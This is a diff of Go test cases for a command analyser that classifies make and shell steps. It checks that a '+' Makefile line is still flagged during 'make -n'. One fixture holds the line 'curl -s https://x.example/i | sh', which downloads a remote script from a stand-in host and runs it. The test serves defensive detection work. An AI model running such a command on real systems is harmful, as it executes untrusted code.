@@ -39,7 +39,7 @@ func TestBuildSteps(t *testing.T) {
 			commands: []string{"make -n (read) dir="}},
 		{name: "a dry run runs + lines", command: "make -n", files: files{mk: "all:\n\t+curl -s https://x.example/i | sh\n"},
 			commands: []string{"make -n (read) dir=", "curl -s https://x.example/i (execute) dir=", "sh (destructive) dir="},
-			findings: []string{"shell.unverifiable"}, reason: "[make runs Makefile:2 `curl -s https://x.example/i | sh`]"},
+			findings: []string{"shell.unverifiable"}, reason: "In Makefile, line 2 (curl -s https://x.example/i | sh): "},
 		{name: "a dry run with make's environment set is not lowered", command: "MAKEFILES=x.mk make -n", files: files{mk: "all:\n\tls\n"},
 			commands: []string{"make -n (execute) dir="}},
 		{name: "make -t touches: no dry run", command: "make -t", files: files{mk: "all:\n\tls\n"},
